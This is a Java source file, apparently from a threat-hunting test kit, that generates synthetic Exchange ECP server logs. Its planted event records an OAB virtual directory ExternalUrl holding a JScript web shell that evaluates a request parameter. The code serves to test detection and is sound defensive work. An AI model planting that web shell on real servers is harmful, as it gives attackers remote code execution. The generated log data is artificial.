@@ -1,0 +1,68 @@
+package org.exhunt.testkit.logs;
+
+import java.nio.charset.StandardCharsets;
+import java.util.SplittableRandom;
+
+/** ECP Server logs ({@code Logging/ECP/Server}): one line per ECP request, EventData as {@code S:KEY=value} pairs. */
+final class EcpServerDialect implements Dialect {
+
+    private static final String[] COMMANDS = {"Get-InboxRule", "Get-Mailbox", "Get-MailboxRegionalConfiguration",
+        "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", "Pipeline.1|Get-MailboxRegionalConfiguration",
+        "Get-ExchangeServer.Identity=''EX01''", "Get-RecipientPermission"};
+
+    private final String server;
+    private final String build;
+
+    EcpServerDialect(String server, String build) {
+        this.server = server;
+        this.build = build;
+    }
+
+    @Override
+    public void header(LineBuffer b, long time) {
+        b.ascii("#Software: Microsoft Exchange Server").crlf();
+        b.ascii("#Version: 15.0.0.0").crlf();
+        b.ascii("#Log-type: ECP Server Log").crlf();
+        b.ascii("#Date: ");
+        Clock.iso(b, time);
+        b.crlf();
+        b.ascii("#Fields: TimeStamp,ServerName,EventId,EventData").crlf();
+    }
+
+    @Override
+    public void line(LineBuffer b, long time, SplittableRandom r) {
+        String cmd = Traffic.pick(COMMANDS, r);
+        write(b, time, r, cmd.contains("'") ? "'S:CMD=" + cmd.replace("'", "''") + "'" : "S:CMD=" + cmd,
+                "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=xkcd");
+    }
+
+    @Override
+    public boolean planted(LineBuffer b, long time, PlantedEvent event) {
+        if (!(event instanceof PlantedEvent.OabWebShellWrite)) return false;
+        String shell = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"exhunt\"],\"unsafe\");}</script>";
+        String cmd = "Set-OabVirtualDirectory.ExternalUrl='" + shell + "'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'";
+        write(b, time, new SplittableRandom(time), "'S:CMD=" + cmd.replace("'", "''") + "'",
+                "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1xS&schema=OABVirtualDirectory");
+        return true;
+    }
+
+    @Override
+    public String serverPath(long time) {
+        return "Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer"
+                + Clock.yyyyMMddHH(time).substring(0, 8) + "-1.LOG";
+    }
+
+    private void write(LineBuffer b, long time, SplittableRandom r, String cmdPair, String url) {
+        Clock.iso(b, time);
+        b.ch(',').ascii(server).ascii(",ECP.Request,");
+        LineBuffer data = new LineBuffer();
+        data.ascii("S:TIME=").num(5 + r.nextInt(200)).ascii(";S:SID=");
+        Traffic.guid(data, r);
+        data.ch(';').utf8(cmdPair).ascii(";S:REQID=;S:URL=").ascii(url).ascii(";S:REFERRER=;S:EX=;S:ACTID=");
+        Traffic.guid(data, r);
+        data.ascii(";S:RS=0;S:BLD=").ascii(build).ascii(";S:TNAME=<null>;S:TID=;S:USID=");
+        Traffic.guid(data, r);
+        data.ascii(";S:EDOID=;S:ACID=");
+        HttpProxyDialect.csv(b, new String(data.bytes, 0, data.length, StandardCharsets.UTF_8)).crlf();
+    }
+}
